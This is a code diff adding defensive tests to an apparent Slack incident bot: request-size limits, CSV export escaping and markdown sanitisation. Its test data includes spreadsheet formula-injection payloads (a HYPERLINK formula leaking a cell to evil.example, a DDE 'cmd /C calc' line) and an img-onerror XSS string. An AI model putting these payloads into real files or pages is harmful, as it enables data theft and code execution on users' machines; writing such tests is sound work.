@@ -2,14 +2,20 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
+import re
 import time
+from collections.abc import Iterator
 from typing import Any
 
+import requests
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from bot.render.modals import DECLARE_CALLBACK, RUN_CALLBACK, SKIP_CALLBACK
+from bot.render.modals import DECLARE_CALLBACK, RESOLVE_CALLBACK, RUN_CALLBACK, SKIP_CALLBACK
+from bot.web import MAX_BODY_BYTES
 from tests.conftest import RunningBot, jwt_settings
 from tests.fakes.salesforce import FakeSalesforce
 from tests.integration.test_salesforce import open_phase
@@ -159,3 +165,80 @@ def test_soql_injection_is_refused_before_any_query(bot_factory: Any, fake_org: 
     time.sleep(0.2)
     assert not [path for _, path in fake_org.calls if "FM_Org_Chat_Dml_Audit__c" in path]
     assert ephemeral_texts(bot)[-1].startswith(":rotating_light: Declared")
+
+
+def test_a_body_larger_than_slack_sends_is_refused_unread(bot: RunningBot) -> None:
+    too_big = b"x" * (MAX_BODY_BYTES + 1)
+    form = {"Content-Type": "application/x-www-form-urlencoded"}
+    sized = requests.post(bot.url, data=too_big, headers=form, timeout=30)
+    assert sized.status_code == 413
+
+    def chunks() -> Iterator[bytes]:  # no Content-Length: refused once the limit is passed
+        for _ in range(64):
+            yield b"x" * (64 * 1024)
+
+    chunked = requests.post(bot.url, data=chunks(), headers=form, timeout=30)
+    assert chunked.status_code == 413
+    assert bot.slack.command("help").status_code == 200  # and the next request is served
+
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?"&A1,"LIMIT 9999")',
+    "+cmd|' /C calc'!A0 LIMIT 9999",
+    "-2+3 LIMIT 9999",
+    "@SUM(1+1) LIMIT 9999",
+    "\t=1+1 LIMIT 9999",
+    "\r=1+1 LIMIT 9999",
+    "```\nLIMIT 9999 <!channel> ``` *bold*",
+]
+
+
+def test_query_results_cannot_run_in_a_spreadsheet_or_break_the_table(
+    bot_factory: Any, fake_org: FakeSalesforce
+) -> None:
+    """Playbook 4 exports `Detail__c`, text typed by the very person under investigation."""
+    bot = bot_factory(**jwt_settings(fake_org))
+    audits = fake_org.rows("FM_Run_Audit__c")
+    suspect = next(row for row in audits if "LIMIT 9999" in (row.get("Detail__c") or ""))
+    audits.extend(
+        {**suspect, "Id": f"a02{index:012d}AAA", "Detail__c": detail} for index, detail in enumerate(FORMULAS)
+    )
+    channel = declare(bot)
+    discovery = open_phase(bot, channel, "prompt-injection", "discovery")
+    click(bot, channel, discovery, "step.run", "suspect-turns")
+    export = bot.fake.wait_until(
+        lambda: next((f for f in bot.fake.files.values() if "suspect-turns" in f["name"] and f.get("content")), None)
+    )
+    cells = [row["Detail__c"] for row in csv.DictReader(io.StringIO(export["content"].decode()))]
+    for formula in FORMULAS[:-1]:
+        assert "'" + formula in cells  # a leading quote: shown as text, never evaluated
+    assert FORMULAS[-1] in cells and "SELECT Id, Email FROM Contact LIMIT 9999" in cells  # the rest untouched
+    table = next(
+        m for m in channel.messages.values() if ":bar_chart:" in json.dumps(m.get("blocks", [])) and "```" in text_of(m)
+    )
+    block = next(b["text"]["text"] for b in table["blocks"] if b["type"] == "section" and "```" in b["text"]["text"])
+    assert block.startswith("```") and block.endswith("```") and block.count("```") == 2  # the block stays shut
+    assert "<!channel>" not in block
+
+
+HOSTILE = (
+    "Fine](https://evil.example) <img src=x onerror=alert(1)>\n# Owned\n> quoted\n- [click](https://evil.example)\n"
+    "| a | b |\n```"
+)
+
+
+def test_peoples_text_stays_inert_in_the_postmortem(bot: RunningBot) -> None:
+    bot.slack.command("")
+    view = bot.fake.wait_until(lambda: bot.fake.open_views(DECLARE_CALLBACK))[-1]
+    bot.slack.submit(view, {"title": "Org Chat [click](https://evil.example)", "severity": "2", "summary": HOSTILE})
+    channel = bot.fake.wait_until(lambda: bot.fake.channel_named("inc-1-"))
+    bot.slack.command("resolve", channel_id=channel.id)
+    resolve = bot.fake.wait_until(lambda: bot.fake.open_views(RESOLVE_CALLBACK))[-1]
+    bot.slack.submit(resolve, {"root_cause": HOSTILE, "customer_impact": HOSTILE, "lessons": HOSTILE})
+    markdown = bot.fake.wait_until(lambda: next(iter(bot.fake.canvases.values()), None))["markdown"]
+    assert markdown.startswith("# Post-mortem: INC-1 Org Chat \\[click\\](https://evil.example)\n")
+    assert "](https://evil.example)" not in markdown.replace("\\](https://evil.example)", "")  # no link survives
+    assert not re.search(r"(?<!\\)<img", markdown) and "```" not in markdown  # only escaped: \\<img
+    lines = markdown.splitlines()
+    assert not [line for line in lines if line.startswith(("# Owned", "> quoted", "- \\[click", "- [click", "| a |"))]
+    assert markdown.count("Fine\\](https://evil.example) \\<img src=x onerror=alert(1)\\> # Owned") == 4
